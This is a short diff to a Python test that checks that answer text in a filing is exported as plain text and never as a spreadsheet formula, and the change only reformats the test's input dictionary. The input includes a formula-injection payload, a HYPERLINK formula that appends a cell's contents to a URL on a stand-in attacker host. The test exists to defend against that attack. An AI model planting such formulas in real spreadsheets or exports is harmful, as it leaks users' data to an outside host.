@@ -196,8 +196,12 @@ def test_answer_text_comes_back_as_text_never_as_a_formula(catalogue, staff):
     filing = make_filing(staff)
     answer = filing.answers.get(item__code="ORG-1")
     hostile = '=HYPERLINK("http://attacker.example/?"&A1,"クリック")'
-    values = {"status": "partial", "implementation": hostile, "justification": "=1+1\x01"}
-    values["target_date"] = None
+    values = {
+        "status": "partial",
+        "implementation": hostile,
+        "justification": "=1+1\x01",
+        "target_date": None,
+    }
     edit = AnswerEdit(answer.item_id, values, answer.version, answer.content_digest())
     save_answers(filing=filing, actor=staff, edits=[edit])
     client = client_for(staff)
